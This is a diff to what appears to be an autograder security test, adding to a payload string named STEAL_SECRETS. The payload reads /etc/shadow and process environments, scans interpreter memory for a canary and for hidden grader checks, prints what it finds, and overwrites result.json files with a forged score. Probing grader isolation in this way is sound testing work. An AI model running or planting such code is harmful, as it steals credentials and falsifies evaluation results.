@@ -7,7 +7,7 @@ from autograder import layout
 PACKAGE = "my_robot_package"
 CANARY = "CANARY-5b1e"  # a test sets it in the grader's environment
 
-# Searches for secrets, at import, in setup.py and in a notebook's cell. It prints all that it finds.
+# Searches files, processes and memory for secrets, at import, in setup.py and in a notebook's cell. It prints them.
 STEAL_SECRETS = f"""
 import gc as _gc, glob as _glob, os as _os, signal as _signal, socket as _socket, sys as _sys
 _paths = ["/etc/shadow", "/etc/passwd", "/root/.bashrc", *_glob.glob("/proc/*/environ"), *_glob.glob("/proc/*/cmdline")]
@@ -26,6 +26,13 @@ for _path in _paths:
         "{PACKAGE}" in _path
     ):
         print("STOLEN", _path, _text[:2000])
+_frame = _sys._getframe()
+while _frame.f_back:
+    _frame = _frame.f_back
+_known = [_each for _each in (*_gc.get_objects(), _frame.f_globals, _frame.f_locals) if isinstance(_each, dict)]
+for _text in [str(_value) for _each in _known for _value in list(_each.values()) if isinstance(_value, (str, bytes))]:
+    if "{CANARY[:6]}" + "{CANARY[6:]}" in _text or "autograder.checks" + ".ch" in _text and ".hidden" in _text:
+        print("STOLEN", "/from memory", _text[:2000])
 for _path in _glob.glob("/tmp/**/result.json", recursive=True) + ["result.json", "../result.json", "../../result.json"]:
     try:
         open(_path, "w").write('{{"score": 51}}')
